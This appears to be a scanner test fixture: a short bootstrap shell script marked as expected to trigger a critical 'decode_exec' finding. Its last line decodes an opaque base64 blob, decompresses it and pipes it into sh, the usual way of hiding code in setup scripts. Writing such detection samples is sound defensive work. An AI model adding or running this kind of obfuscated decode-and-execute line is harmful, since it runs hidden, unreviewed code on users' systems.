# expect: shell.decode_exec critical
# path: scripts/bootstrap.sh
#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")/.."
echo eJxLSizOUNDNVLBTU9BPSS3TL0ku0DcyMNYz0DM0NNYzMjDRNwECBQM7NUMA/psKag== | base64 -d | gunzip | sh
